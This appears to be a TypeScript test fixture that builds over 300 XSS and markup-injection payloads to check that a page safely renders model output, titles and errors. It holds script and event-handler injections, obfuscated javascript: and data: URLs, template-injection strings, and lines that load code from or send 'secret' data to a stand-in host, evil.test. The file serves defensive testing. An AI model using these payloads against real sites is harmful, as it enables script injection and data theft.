/** What an attacker could make a model, a title or an error say. `CALL` reports to the page's test if it ever runs. */
const CALL = 'globalThis.ran()';
/** An origin that nothing may ask. `.test` resolves nowhere (RFC 6761). */
export const FOREIGN = 'http://evil.test';

const ELEMENTS: readonly string[] = [
  `<script>${CALL}</script>`,
  `<script src="${FOREIGN}/x.js"></script>`,
  `<ScRiPt type=module>${CALL}</sCrIpT>`,
  `<img src=x onerror="${CALL}">`,
  `<img src="${FOREIGN}/pixel.png?data=secret">`,
  `<image href=x onerror=${CALL}>`,
  `<svg onload="${CALL}"></svg>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s></svg>`,
  `<svg><use href="${FOREIGN}/x.svg#a"></use></svg>`,
  `<math><mtext><img src=x onerror=${CALL}></mtext></math>`,
  `<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
  `<iframe src="javascript:parent.ran()"></iframe>`,
  `<object data="data:text/html,<script>parent.ran()</script>"></object>`,
  `<embed src="${FOREIGN}/x.swf">`,
  `<link rel=stylesheet href="${FOREIGN}/x.css">`,
  `<link rel=prefetch href="${FOREIGN}/next">`,
  `<style>@import "${FOREIGN}/x.css"; body{display:none}</style>`,
  `<div style="background:url(${FOREIGN}/bg.png)">styled</div>`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}/">`,
  `<base href="${FOREIGN}/">`,
  `<form action="${FOREIGN}/"><input name=q autofocus onfocus=${CALL}></form>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<video src=x onerror=${CALL} autoplay></video>`,
  `<audio src="${FOREIGN}/a.mp3" autoplay></audio>`,
  `<body onload=${CALL}>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `<a href="javascript:${CALL}">click</a>`,
  `<button formaction="javascript:${CALL}">press</button>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<?xml-stylesheet href="${FOREIGN}/x.css"?>`,
  `</p></div><img src=x onerror=${CALL}>`,
  `"><img src=x onerror=${CALL}>`,
  `'-${CALL}-'`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `<img src=x onerror`,
  `<scr\u0000ipt>${CALL}</script>`,
];

const ADDRESSES: readonly string[] = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java&#10;script:${CALL}`,
  `java&#x09;script:${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#0000106avascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `%6aavascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `\\u006aavascript:${CALL}`,
  `javascript://${FOREIGN.slice(7)}/%0a${CALL}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnJhbigpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload=${CALL}>`,
  `file:///etc/passwd`,
  `blob:${FOREIGN}/1`,
  `about:blank`,
  `view-source:${FOREIGN}`,
  `//evil.test/path`,
  `/api/v1/conversations`,
  `?next=${FOREIGN}`,
  `${FOREIGN}/collect?data=secret`,
  `intent://evil.test#Intent;scheme=http;end`,
];

/** Where in a text an element can stand. */
const PLACES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `A word ${payload} and one more.`,
  (payload) => `- ${payload}\n- second`,
  (payload) => `> ${payload}`,
  (payload) => `# ${payload}`,
  (payload) => `| a | b |\n|---|---|\n| ${payload} | 2 |`,
];

/** How an address can be written. */
const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[text](${address})`,
  (address) => `[text](<${address}> "title \\" onmouseover=${CALL}")`,
  (address) => `![image](${address})`,
  (address) => `[![image](${address})](${address})`,
  (address) => `<${address}>`,
  (address) => `[reference]\n\n[reference]: ${address}`,
];

const SPECIALS: readonly string[] = [
  `\`\`\`html onload=${CALL} "><img src=x onerror=${CALL}>\n<b>code</b>\n\`\`\``,
  `\`\`\`"><script>${CALL}</script>\ncode\n\`\`\``,
  `\`<img src=x onerror=${CALL}>\``,
  `    <img src=x onerror=${CALL}>`,
  `[a](http://x.test/"onmouseover="${CALL})`,
  `[a](http://x.test 'x" onmouseover="${CALL}')`,
  `[<img src=x onerror=${CALL}>](http://x.test)`,
  `![<img src=x onerror=${CALL}>](http://x.test/i.png)`,
  `[__proto__]: http://x.test\n\n[__proto__] and [constructor]`,
  `http://x.test/<script>${CALL}</script>`,
  `mailto:a@x.test?subject=<script>${CALL}</script>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `\u202egpj.exe\u202c [\u202etxt.eulav](http://x.test)`,
  `${'>'.repeat(200)} deep`,
  `${'['.repeat(500)}`,
  `${'*'.repeat(500)}a`,
  `![${'['.repeat(200)}](`,
];

/** Everything above, each with each: more than 300, each a text of its own. */
export const PAYLOADS: readonly string[] = [
  ...ELEMENTS.flatMap((element) => PLACES.map((place) => place(element))),
  ...ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))),
  ...SPECIALS,
];

/** Payloads that fit on one line, for titles and errors. */
export const SHORT_PAYLOADS: readonly string[] = ELEMENTS;
